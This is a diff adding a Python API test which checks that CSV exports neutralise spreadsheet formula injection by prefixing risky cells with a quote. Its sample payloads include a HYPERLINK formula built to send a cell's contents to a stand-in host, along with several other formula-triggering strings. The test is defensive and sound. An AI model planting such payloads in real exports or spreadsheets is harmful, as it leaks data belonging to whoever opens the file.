@@ -101,6 +101,17 @@ def test_exports_stream_the_whole_result(client: httpx.Client) -> None:
     assert lines[0]["severity"] == 1 and lines[0]["machine_id"] == machine
 
 
+def test_csv_cells_never_start_a_formula(client: httpx.Client) -> None:
+    machine = new_id()
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "\tx"]
+    store(client, [record(machine_id=machine, payload=p) for p in hostile])
+    text = client.get("/api/records", params={"machine_id": machine, "format": "csv"}).text
+    cells = sorted(row["payload"] for row in csv.DictReader(io.StringIO(text, newline="")))
+    assert cells == sorted("'" + p for p in hostile)
+    exact = client.get("/api/records", params={"machine_id": machine, "format": "ndjson"}).text
+    assert sorted(json.loads(line)["payload"] for line in exact.splitlines()) == sorted(hostile)
+
+
 def test_an_empty_export_is_a_header_only(client: httpx.Client) -> None:
     response = client.get("/api/records", params={"machine_id": new_id(), "format": "csv"})
     assert response.status_code == 200
